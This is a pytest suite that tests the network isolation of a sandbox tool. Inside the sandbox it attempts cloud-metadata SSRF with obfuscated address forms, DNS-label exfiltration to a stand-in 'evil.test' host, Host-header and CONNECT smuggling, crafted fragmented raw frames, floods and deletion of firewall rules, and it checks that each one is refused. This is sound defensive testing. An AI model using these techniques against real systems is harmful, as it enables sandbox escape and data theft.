# SPDX-License-Identifier: LGPL-2.1-or-later
"""Attacks on the network of --net, and by it. Numbers as in SECURITY.md; the fake services are those of tests/world.py,
each of which answers outside (test_N1_control...)."""
import json
import os
import pathlib
import shutil
import signal
import subprocess

import pytest

from attacking import HERE
from conftest import BUILD, acting_as_root, wait_until
from netlib import MODES
from world import BLACKHOLE, FAKES4, FAKES6, HOST4, HOST6, OTHER4, SHARED4, SITE4, SITE6

HOST_ADDRESSES = ["127.0.0.1", "127.1.2.3", "0.0.0.0", "::1", "::", "::ffff:127.0.0.1", HOST4, HOST6, f"::ffff:{HOST4}", "10.0.2.2",
                  "fd00:c10c:e::2", "10.0.2.3", "fd00:c10c:e::3", "64:ff9b::7f00:1"]
METADATA = ["169.254.169.254", "100.100.100.200", "168.63.129.16", "fd00:ec2::254", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe"]
PRIVATE = ["10.9.9.9", "192.168.7.7", "172.16.5.5", "100.64.1.1", "fd12:3456::7", "64:ff9b::a09:909"]
GROUPS = ["224.0.0.1", "255.255.255.255", "198.51.100.255", "ff02::1", "fe80::1", "240.0.0.1", "169.254.1.1"]
REFUSED = {"ECONNREFUSED", "EHOSTUNREACH", "ENETUNREACH", "EACCES", "EINVAL", "EADDRNOTAVAIL", "TIMEOUT", "EPERM"}
TRY = """
def all_ways(address):
    return [attempt(address, 5004, timeout=3), attempt(address, 7, timeout=3, data=b"x"), datagram(address, 7, timeout=0.5)]
"""


@pytest.fixture(params=MODES)
def mode(request):
    return MODES[request.param]


def assert_refused(told):
    for address, ways in told.items():
        assert set(ways) <= REFUSED, (address, ways)


def reach(net, addresses, *options):
    code = TRY + f"tell({{a: all_ways(a) for a in {addresses}}})"
    return net.client(*options, code=code)


# ---- N1 to N3: who is reached ------------------------------------------------------------------------------------
def test_N1_host_is_refused(net, mode):
    assert_refused(reach(net, HOST_ADDRESSES, *mode))


def test_N1_host_by_name(net, mode):
    """A name whose address is the host's is not answered; the control is one that is."""
    told = net.client(*mode, code="tell([resolve(n) for n in ('site.test', 'host.test', 'rebind.test', 'mapped.test')])")
    assert told[0] == sorted([SITE4, SITE6]) and all(isinstance(t, str) for t in told[1:]), told


def test_N1_N2_N3_control(net):
    """Outside the sandbox each of them answers."""
    told = net.host_client(TRY + f"tell({{a: all_ways(a) for a in {['127.0.0.1', '::1', HOST4, HOST6] + FAKES4 + FAKES6}}})")
    for address, ways in told.items():
        assert ways == ["late", "x", "ping"], (address, ways)


def test_N2_metadata_is_refused(net, mode):
    """The control is that of N1, N2 and N3."""
    assert_refused(reach(net, METADATA, *mode))


def test_N2_metadata_with_lan(net):
    assert_refused(reach(net, METADATA, "--net-lan", "on"))


def test_N2_metadata_by_name_and_odd_forms(net):
    """The resolver inside turns decimal, octal and short forms into addresses, which are judged as such."""
    code = TRY + """
told = {n: resolve(n) for n in ('meta.test', 'nat64.test', 'half.test')}
for n in ('2852039166', '0251.0376.0251.0376', '0xa9.0xfe.0xa9.0xfe', '169.254.43518', '127.1', '0', '017700000001'):
    told[n] = attempt(n, 5004, timeout=3)
tell(told)"""
    told = net.client(code=code)
    for name in ("meta.test", "nat64.test", "half.test"):
        assert isinstance(told.pop(name), str), name
    assert set(told.values()) <= REFUSED, told


def test_N2_metadata_by_redirect(net):
    url = f"http://{SITE4}/redirect?http://169.254.169.254/"
    assert net(argv=["curl", "-sS", "-L", "-m", "10", url]).returncode == 7
    assert "addr=169.254.169.254" in net.host(["curl", "-sS", "-L", "-m", "10", url]).stdout  # control


def test_N3_private_is_refused(net, mode):
    assert_refused(reach(net, PRIVATE + GROUPS, *mode))


def test_N3_private_with_lan(net):
    """A control for the row: with --net-lan on they answer, groups still not."""
    told = reach(net, PRIVATE[:5] + GROUPS, "--net-lan", "on")
    assert [told.pop(a) for a in PRIVATE[:5]] == [["late", "x", "ping"]] * 5
    assert_refused(told)


# ---- N4, N5, N6, N11: other ways ---------------------------------------------------------------------------------
def test_N4_abstract_sockets_of_the_host(net):
    """Those of the network that the processes of --net stand in; the control reaches it from there."""
    name = f"cloche-N4-{os.getpid()}"
    process = net.popen(net.python(f"""
l = socket.socket(socket.AF_UNIX); l.bind('\\0{name}'); l.listen(); tell(1)
while True: l.accept()[0].sendall(b'reached')"""), stdout=subprocess.PIPE)
    process.stdout.readline()
    code = f"""
s = socket.socket(socket.AF_UNIX)
try: s.connect('\\0{name}'); tell(s.recv(7).decode())
except OSError as error: tell(error_name(error.errno))"""
    assert net.host_client(code) == "reached"
    assert net.client(code=code) in ("ECONNREFUSED", "EPERM")


def test_N11_rules_of_one_family_open_no_other(net, mode):
    """Who allows one IPv4 address has allowed no IPv6 one; the control allows both."""
    code = f"tell([attempt('{SITE4}', 5004), attempt('{SITE6}', 5004, timeout=3), datagram('{SITE6}', 7, timeout=1), resolve('site.test')])"
    late, refused, datagrams, _ = net.client(*mode, "--net-allow", SITE4, code=code)
    assert late == "late" and {refused, datagrams} <= REFUSED, (late, refused, datagrams)
    both = net.client(*mode, "--net-allow", SITE4, "--net-allow", SITE6, code=code)
    assert both[:3] == ["late", "late", "ping"], both


def test_N5_sockets_of_the_session_are_absent(net):
    """Nothing of --net binds a directory: path sockets are there where they are bound, as ever. The control is the
    one below, which listens where it is bound."""
    code = """
import glob
tell(glob.glob('/run/**/*sock*', recursive=True) + glob.glob('/var/run/*') + glob.glob('/tmp/*'))"""
    assert net.client(code=code) == []


def test_N5_control_a_bound_socket_is_reached(net, tmp_path):
    path = tmp_path / "sock"
    code = f"""
l = socket.socket(socket.AF_UNIX); l.bind({str(path)!r}); l.listen()
s = socket.socket(socket.AF_UNIX); s.connect({str(path)!r}); tell(1)"""
    assert net.client("--bind", tmp_path, tmp_path, code=code) == 1


@pytest.fixture
def admin(net, bwrap):
    """A COMMAND with all capabilities over its own network, which only bubblewrap's way gives to an ordinary user."""
    def admin(code):
        options = ["--ro-bind", "/", "/", "--proc", "/proc", "--dev", "/dev", "--cap-add", "ALL", "--net"]
        return net.told(net.host([bwrap, *options, *net.python(code)]))

    return admin


RAW = """
def kinds():
    told = {}
    for name, args in {'raw': (socket.AF_INET, socket.SOCK_RAW, 1), 'raw6': (socket.AF_INET6, socket.SOCK_RAW, 58),
                       'packet': (socket.AF_PACKET, socket.SOCK_RAW, 0x300)}.items():
        try: socket.socket(*args).close(); told[name] = 'made'
        except OSError as error: told[name] = error_name(error.errno)
    return told
"""


def test_N6_raw_sockets(net):
    told = net.client(code=RAW + "tell(kinds())")
    assert told["raw"] == told["raw6"] == "EPERM" and told["packet"] in ("EPERM", "EAFNOSUPPORT"), told


@pytest.mark.only_user
def test_N6_control_with_capabilities(admin):
    assert set(admin(code=RAW + "tell(kinds())").values()) == {"made"}


def test_N6_no_change_of_the_interface(net):
    for command in (["ip", "addr", "add", "198.51.100.2/24", "dev", "eth0"], ["ip", "route", "add", "10.0.0.0/8", "dev", "eth0"],
                    ["ip", "link", "set", "eth0", "address", "02:00:00:00:00:09"], ["ip", "link", "set", "eth0", "down"]):
        refused = net(argv=command)
        assert refused.returncode == 2 and "Operation not permitted" in refused.stderr, refused


@pytest.mark.only_user
def test_N6_policy_is_outside(admin):
    """With capabilities over its own network the sandbox may break that, but reaches nobody more: without our rules
    its packets end at the filter."""
    code = TRY + f"""
import subprocess
allowed = attempt('{SITE4}', 5004)
for table in ('inet cloche-nat', 'ip cloche-hold', 'ip6 cloche-hold'):
    subprocess.run(['nft', 'delete', 'table', *table.split()], stderr=subprocess.DEVNULL)
subprocess.run(['ip', 'addr', 'add', '{HOST4}/32', 'dev', 'eth0'], stderr=subprocess.DEVNULL)
tell([allowed, {{a: all_ways(a) for a in {['10.9.9.9', '169.254.169.254', HOST6, '10.0.2.2']}}}])"""
    allowed, told = admin(code)
    assert allowed == "late"  # the control
    assert_refused(told)


FRAMES = """
import random
PACKET = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
PACKET.bind(('eth0', 0))
OWN = open('/sys/class/net/eth0/address').read() if os.path.exists('/sys/class/net/eth0/address') else '02:00:00:00:00:01'
OWN = bytes.fromhex(PACKET.getsockname()[4].hex())
GATE = bytes.fromhex('52550a000202')

def checksum(data):
    data += b'\\0' * (len(data) % 2)
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff

def ip4(proto, body, dest, flags=0, options=b'', source='10.0.2.100', total=None, ttl=64):
    length = 20 + len(options)
    head = struct.pack('!BBHHHBBH4s4s', 0x40 | length // 4, 0, length + len(body) if total is None else total, 7, flags, ttl, proto, 0,
                       socket.inet_aton(source), socket.inet_aton(dest)) + options
    return head[:10] + struct.pack('!H', checksum(head)) + head[12:] + body

def udp(body, dport, sport=4000):
    return struct.pack('!HHHH', sport, dport, 8 + len(body), 0) + body

def ether(payload, kind=0x0800, dest=GATE):
    return dest + OWN + struct.pack('!H', kind) + payload

def send(frame):
    try: PACKET.send(frame)
    except OSError: pass
"""


@pytest.mark.only_user
def test_N7_frames_straight_at_the_interface(admin):
    """Whatever they are, the network goes on; what is forbidden stays so."""
    code = FRAMES + f"""
random.seed(7)
good = ether(ip4(17, udp(b'abc', 7), '{SITE4}'))
for n in range(0, len(good)): send(good[:n])
frames = [ether(b'\\0' * 100, kind) for kind in (0x8100, 0x88f8, 0x0806, 0x86dd, 0x0800, 0x1234, 0x8847, 0)]
frames += [ether(ip4(17, udp(b'a' * 1400, 7), '{SITE4}', flags=f)) for f in (0x2000, 0x2001, 0x0001, 0x1fff, 0x3fff)]
frames += [ether(ip4(17, udp(b'abc', port), '10.0.2.2')) for port in (67, 68, 69, 53, 547)]
frames += [ether(ip4(17, udp(b'abc', 67), '255.255.255.255'), dest=b'\\xff' * 6)]
frames += [ether(ip4(6, struct.pack('!HHIIBBHHH', 5, port, 1, 0, off << 4, 0x2, 100, 0, 9), '{SITE4}')) for off in range(16) for port in (113, 6667, 80)]
frames += [ether(ip4(17, udp(b'abc', 7), '{SITE4}', total=t)) for t in (0, 1, 19, 20, 27, 1000, 65535)]
frames += [ether(ip4(p, b'x' * 64, '{SITE4}')) for p in range(256)]
frames += [ether(struct.pack('!IHBB', 6 << 28, 60, nh, 64) + socket.inet_pton(10, 'fd00:c10c:e::64') + socket.inet_pton(10, '{SITE6}')
           + bytes([nh2, 0]) * 30, 0x86dd, bytes.fromhex('52560a000202')) for nh in (0, 43, 44, 51, 58, 60, 135) for nh2 in (0, 6, 44)]
for frame in frames: send(frame)
for _ in range(3000):
    b = bytearray(random.choice(frames + [good]))
    for _ in range(4): b[random.randrange(len(b))] = random.randrange(256)
    send(bytes(b))
send(ether(ip4(17, udp(b'z' * 32000, 7), '{SITE4}')))
time.sleep(0.3)
tell([datagram('{SITE4}', 7), datagram('{SITE6}', 7), echo('{SITE4}')])"""
    assert admin(code) == ["ping", "ping", "hello"]  # good ones still pass


@pytest.mark.only_user
def test_N8_no_way_round_by_fragments_and_options(admin):
    """A packet to a forbidden place, cut, with options, with extension headers: nothing arrives. The control is the
    same packet, whole and plain, to an allowed place."""
    code = FRAMES + f"""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('10.0.2.100', 4000)); s.settimeout(0.7)
def arrives(*frames):
    for frame in frames: send(frame)
    try: return s.recv(2000).decode('latin-1')
    except TimeoutError: return None
body = udp(b'm' * 40, 7)
route = b'\\x83\\x07\\x04' + socket.inet_aton('169.254.169.254') + b'\\0'
tell([arrives(ether(ip4(17, body, '{SITE4}'))),
      arrives(ether(ip4(17, body[:24], '10.9.9.9', flags=0x2000)), ether(ip4(17, body[24:], '10.9.9.9', flags=3))),
      arrives(ether(ip4(17, body[:24], '{SITE4}', flags=0x2000)), ether(ip4(17, body[24:], '{SITE4}', flags=3))),
      arrives(ether(ip4(17, body, '{SITE4}', options=route))),
      arrives(ether(ip4(17, body, '{SITE4}', source='127.0.0.1'))),
      arrives(ether(ip4(4, ip4(17, body, '169.254.169.254'), '{SITE4}')))])"""
    told = admin(code)
    assert told == ["m" * 40] + [None] * 5, told


# ---- N9, N15: names ----------------------------------------------------------------------------------------------
def test_N9_only_allowed_names_are_asked_for(net, world):
    """Labels that carry data, other types, by TCP: the nameserver outside never sees them. The control is one that is allowed."""
    code = """
import subprocess
for name in ('secret-data.evil.test', 'x' * 60 + '.evil.test', 'site.test.evil.test', 'evilsite.test'):
    resolve(name)
    for kind in ('TXT', 'NULL', 'CNAME', 'ANY', 'SVCB'): subprocess.run(['dig', '+time=2', '+tries=1', name, kind], stdout=subprocess.DEVNULL)
    subprocess.run(['dig', '+tcp', '+time=2', '+tries=1', name], stdout=subprocess.DEVNULL)
tell(resolve('site.test'))"""
    assert net.client("--net-allow", "site.test", code=code) == sorted([SITE4, SITE6])
    with acting_as_root():
        assert set(world.dns_log()) == {"site.test"}


def test_N9_rebinding_is_refused(net):
    for name in ("rebind.test", "meta.test", "lan.test", "host.test", "mapped.test", "nat64.test", "half.test"):
        assert isinstance(net.client("--net-allow", "*.test", code=f"tell(resolve('{name}'))"), str), name
    control = net.client("--net-lan", "on", "--net-allow", "*.test", code="tell([resolve('lan.test'), attempt('lan.test', 5004)])")
    assert control == [["10.9.9.9"], "late"]


def test_N9_odd_bytes_in_names(net, world):
    code = """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect(('10.0.2.3', 53))
def ask(*labels):
    s.send(b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0' + b''.join(bytes([len(l)]) + l for l in labels) + b'\\0\\0\\x01\\0\\x01')
    try: return s.recv(600)[3] & 15
    except TimeoutError: return 'silence'
tell([ask(b'site', b'test'), ask(b'site.test', b'evil'), ask(b'site\\0', b'test'), ask(b'si\\nte', b'test'), ask(b'si\\xc3\\xa9', b'test'),
      ask(b'site.test'), ask(b'si te', b'test')])"""
    told = net.client(code=code)
    assert told[0] == 0 and set(told[1:]) == {1}, told  # the first is the control; FORMERR
    with acting_as_root():
        assert set(world.dns_log()) == {"site.test"}


def test_N9_other_nameservers(net):
    """With rules about names there is no other nameserver: neither by 53 nor by 853."""
    code = f"tell([datagram('203.0.113.53', 53, timeout=1), attempt('203.0.113.53', 53), attempt('203.0.113.53', 853), attempt('{SITE4}', 443)])"
    assert set(net.client("--net-allow", "site.test", code=code)) <= REFUSED
    assert net.client(code="tell(attempt('203.0.113.53', 53, timeout=1))") in ("TIMEOUT", "")  # the control: it connects


@pytest.mark.parametrize("name", ["evil-site.test", "site.test.evil.test", "evilsite.test", "xn--ste-fla.test"])
def test_N15_suffix_tricks(net, world, name):
    assert isinstance(net.client("--net-allow", "site.test", code=f"tell(resolve('{name}'))"), str)
    with acting_as_root():
        assert not world.dns_log()
    assert net.client("--net-allow", "site.test", code="tell(resolve('SITE.test.'))") == sorted([SITE4, SITE6])  # the control


def test_N15_other_name_at_the_same_address(net):
    """The first of them is the control."""
    code = f"""
resolve('shared-a.test')
tell([http('{SHARED4}', 'shared-a.test'), http('{SHARED4}', 'shared-b.test'), http('{SHARED4}', 'shared-a.test.evil.test'),
      http('{SHARED4}', 'user@shared-a.test'), http('{SHARED4}', 'shared-a.test', extra='Host: shared-b.test\\r\\n'),
      attempt('{SHARED4}', 80, data=b'CONNECT 169.254.169.254:80 HTTP/1.1\\r\\nHost: shared-a.test\\r\\n\\r\\n'),
      attempt('{SHARED4}', 80, data=b'GET http://shared-b.test/ HTTP/1.1\\r\\nHost: shared-a.test\\r\\n\\r\\n'),
      attempt('{SHARED4}', 80, data=b'GET / HTTP/1.1\\r\\nHost : shared-b.test\\r\\nHost: shared-a.test\\r\\n\\r\\n')])"""
    told = net.client("--net-allow", "shared-a.test", code=code)
    assert told[0].startswith("host=shared-a.test")  # the control
    assert all(t in ("ECONNRESET", "") for t in told[1:]), told


# ---- N10: published ports ----------------------------------------------------------------------------------------
def test_N10_a_published_port_is_exclusive(net):
    code = "l = socket.create_server(('0.0.0.0', 8000)); tell(1); input()"
    process = net.client_process("--publish", "18100:8000", code=code)
    process.stdout.readline()
    tries = """
def listens(address, *options):
    s = socket.socket()
    for option in options: s.setsockopt(socket.SOL_SOCKET, option, 1)
    try: s.bind((address, 18100)); s.listen(); return True
    except OSError as error: return error_name(error.errno)
    finally: s.close()
R, P = socket.SO_REUSEADDR, socket.SO_REUSEPORT
tell([listens(a, *o) for a in ('127.0.0.1', '0.0.0.0') for o in ((), (R,), (P,), (R, P))])"""
    assert set(net.host_client(tries)) == {"EADDRINUSE"}
    assert net("--publish", "18100:8000", argv=["true"]).returncode == 125
    process.stdin.close()
    process.wait()
    assert wait_until(lambda: True in net.host_client(tries))  # the control: free again


def test_N10_loopback_by_default(net):
    """No good address of the host's; the control is the row's other test, which finds the port taken."""
    code = "l = socket.create_server(('0.0.0.0', 8000)); tell(1); input()"
    process = net.client_process("--publish", "18101:8000", code=code)
    process.stdout.readline()
    listening = net.host(["ss", "-Hltn", "sport = :18101"]).stdout
    assert {line.split()[3] for line in listening.splitlines()} == {"127.0.0.1:18101", "[::1]:18101"}


# ---- N12, N13: floods, deaths ------------------------------------------------------------------------------------
def children_of(pid):
    with acting_as_root():
        return [int(p) for p in pathlib.Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]


def name_of(pid):
    return pathlib.Path(f"/proc/{pid}/comm").read_text().strip()


def lives(pid):
    try:
        return pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def net_processes(process):
    """{name: pid} of the processes of cloche-net below a started nsenter, which became cloche."""
    found, todo = {}, [process.pid]
    while todo:
        pid = todo.pop()
        try:
            found.setdefault(name_of(pid), pid)
            todo += children_of(pid)
        except OSError:
            pass
    return {name: pid for name, pid in found.items() if name.startswith(("net-", "cloche-net"))}


WAITING = f"""
tell(1)
for line in sys.stdin: tell([echo('{SITE4}') if 'tcp' in line else datagram('{SITE4}', 7, timeout=20)])"""


def test_N12_many_short_connections(net):
    """A flood of 3000; test_N12_slow_… has the hundred thousand. Nothing of it stays open."""
    process = net.client_process(code=f"""
from concurrent.futures import ThreadPoolExecutor
input()
with ThreadPoolExecutor(16) as pool: done = sum(pool.map(lambda n: attempt('{SITE4}', 5000) != '', range(3000)))
tell(done); input()""")
    engine = wait_until(lambda: net_processes(process).get("net-engine"))
    before = len(descriptors(engine))
    process.stdin.write("\n")
    process.stdin.flush()
    assert json.loads(process.stdout.readline()) == 3000  # the control: all are good
    wait_until(lambda: len(descriptors(engine)) <= before + 40)  # pipes that are kept for the next


def descriptors(pid):
    with acting_as_root():
        return os.listdir(f"/proc/{pid}/fd")


@pytest.mark.slow
def test_N12_slow_hundred_thousand_connections(net):
    code = f"""
from concurrent.futures import ThreadPoolExecutor
def one(n):
    with socket.socket() as s:
        s.settimeout(60); s.connect(('{SITE4}', 5003 if n % 2 else 5000)); s.setsockopt(1, 13, struct.pack('ii', 1, 0))
    return 1
def many(k):
    done = 0
    for n in range(6250):
        try: done += one(n)
        except ConnectionResetError: done += 1
    return done
with ThreadPoolExecutor(16) as pool: tell(sum(pool.map(many, range(16))))"""
    assert net.client(code=code, timeout=600) == 100000


@pytest.mark.slow
def test_N12_slow_four_thousand_idle(net):
    """4000 open ones under a limit of 20000 descriptors: all stay, and one more still works."""
    code = f"""
import resource
resource.setrlimit(resource.RLIMIT_NOFILE, (20000, 20000))
idle = [connected('{SITE4}', 7) for _ in range(4000)]
rounds = sum(echo('{SITE4}') == 'hello' for _ in range(100))
for s in idle[::100]: s.sendall(b'x'); assert s.recv(1) == b'x'
tell([len(idle), rounds])"""
    argv = ["prlimit", "--nofile=20000:20000", "--", *net.argv([], net.python(code))]
    assert net.told(net.host(argv, timeout=300)) == [4000, 100]


def test_N12_half_open_flood(net):
    """Connections that never come about are bounded, and good ones go on, which is the control."""
    code = f"""
half = []
for n in range(3000):
    s = socket.socket(); s.setblocking(False)
    try: s.connect_ex(('{BLACKHOLE}', 80))
    except OSError: break
    half.append(s)
tell([len(half) > 500, echo('{SITE4}')])"""
    assert net.client("--rlimit", "nofile=4000", code=code) == [True, "hello"]


def test_N12_udp_flood(net):
    code = f"""
s = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(200)]
for n in range(20000): s[n % 200].sendto(b'x', ('{SITE4}', 10000 + n % 5000))
for n in range(2000): s[n % 200].sendto(b'x', ('10.9.9.9', 10000 + n))
time.sleep(0.5)
tell([datagram('{SITE4}', 7, timeout=10), echo('{SITE4}'), resolve('site.test') != []])"""
    assert net.client(code=code) == ["ping", "hello", True]  # the control: they are good after it


def test_N13_the_network_is_not_visible_inside(net):
    code = """
names = {open(f'/proc/{p}/comm').read().strip() for p in os.listdir('/proc') if p.isdigit()}
try: os.kill(-1, 9)
except OSError as error: pass
tell([sorted(names), attempt('203.0.113.1', 5004)])"""
    told = net.client(code=code)
    assert not [n for n in told[0] if "net" in n] and told[1] == "late", told
    process = net.client_process(code=WAITING)
    process.stdout.readline()
    assert {"net-engine", "net-broker", "net-slirp"} <= set(net_processes(process))  # the control: they are there


@pytest.mark.parametrize("name", ["net-engine", "net-broker", "net-slirp", "net-factory", "cloche-net"])
@pytest.mark.parametrize("fail", ["kill", "closed"])
def test_N13_death_of_a_process(net, name, fail):
    process = net.client_process("--net-fail", fail, "--publish", "0:8000", code=WAITING)
    process.stdout.readline()
    process.stdin.write("tcp\n")
    process.stdin.flush()
    assert json.loads(process.stdout.readline()) == ["hello"]  # the control
    pids = net_processes(process)
    with acting_as_root():
        os.kill(pids[name], signal.SIGKILL)
    if fail == "kill":
        process.wait(30)  # its standard input stays open: only the death ends it
        err = process.stderr.read()
        assert process.returncode == 125 and "died, and the sandbox with it" in err, (process.returncode, err)
        assert f"the network's process {name} died" in err, err
        return
    assert "there is no network any more" in process.stderr.readline()
    wait_until(lambda: not set(net_processes(process)) - {"cloche-net"})
    process.stdin.write("udp\n")
    process.stdin.flush()
    line = process.stdout.readline()
    assert "ping" not in line
    process.stdin.close()
    process.wait(30)


def test_N13_processes_end_with_the_sandbox(net):
    """The control is that they are there before."""
    process = net.client_process(code=WAITING)
    process.stdout.readline()
    pids = net_processes(process)
    assert len(pids) >= 4  # the control
    with acting_as_root():
        process.kill()
    process.wait(30)
    wait_until(lambda: not any(lives(pid) for pid in pids.values()))


def test_N13_stopped_process(net):
    """Nothing gets through while libslirp's process is stopped, and the queue in front of it is bounded."""
    process = net.client_process(code=f"""
tell(1); input()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n in range(20000):
    try: s.sendto(b'x' * 1000, ('{SITE4}', 9))
    except OSError: pass
tell(datagram('{SITE4}', 7, timeout=1)); input(); tell(datagram('{SITE4}', 7, timeout=20))""")
    process.stdout.readline()
    slirp = net_processes(process)["net-slirp"]
    with acting_as_root():
        os.kill(slirp, signal.SIGSTOP)
    process.stdin.write("\n")
    process.stdin.flush()
    assert json.loads(process.stdout.readline()) == "TIMEOUT"
    with acting_as_root():
        os.kill(slirp, signal.SIGCONT)
    process.stdin.write("\n")
    process.stdin.flush()
    assert json.loads(process.stdout.readline()) == "ping"  # the control


# ---- N14: a bug of libslirp --------------------------------------------------------------------------------------
@pytest.fixture(scope="session")
def hooked(shared_directory):
    """Copies of our programs; libslirp has net-hook.c before it."""
    if os.environ.get("CLOCHE_SANITIZED"):
        pytest.skip("sanitized build: its own library must come before the hook")
    directory = shared_directory / "hooked"
    if not directory.exists():
        with acting_as_root():
            directory.mkdir()
            for name in ("cloche", "cloche-net"):
                shutil.copy(BUILD / name, directory / name)
            subprocess.run(["cc", "-shared", "-fPIC", "-O1", "-o", directory / "libhook.so", HERE / "net-hook.c"], check=True)
            for change in (["--add-needed", "libhook.so"], ["--set-rpath", directory]):
                subprocess.run(["patchelf", *change, directory / "cloche-net"], check=True)
            for file in (directory, *directory.iterdir()):
                file.chmod(0o755)
    return str(directory / "cloche")


def hook(net, hooked, what, *options):
    net.cloche = hooked
    return net(*options, argv=net.python(f"tell(datagram('{SITE4}', 7, b'HOOK:{what}', timeout=10))"))


@pytest.mark.parametrize("what", ["tcp", "tcp6", "mptcp", "unix", "raw"])
def test_N14_libslirp_makes_no_connection(net, hooked, what):
    """It is refused the socket and goes on."""
    result = hook(net, hooked, what)
    assert result.returncode == 0 and result.stdout == f'"HOOK:{what}"\n', result


@pytest.mark.parametrize("what", ["execve", "open", "ptrace", "mount", "fork", "kill", "setns", "code"])
def test_N14_libslirp_is_killed(net, hooked, what):
    result = hook(net, hooked, what)
    assert result.returncode == 125 and "the network's process net-slirp died" in result.stderr, result
    assert result.stdout == ""


def test_N14_control_what_succeeds_is_seen(net, hooked):
    """An attack that is allowed; and TCP where libslirp is the fallback and may."""
    assert hook(net, hooked, "ok").returncode == 125
    assert hook(net, hooked, "tcp", "--net-path", "slirp").returncode == 125
    assert hook(net, hooked, "nothing").stdout == '"HOOK:nothing"\n'
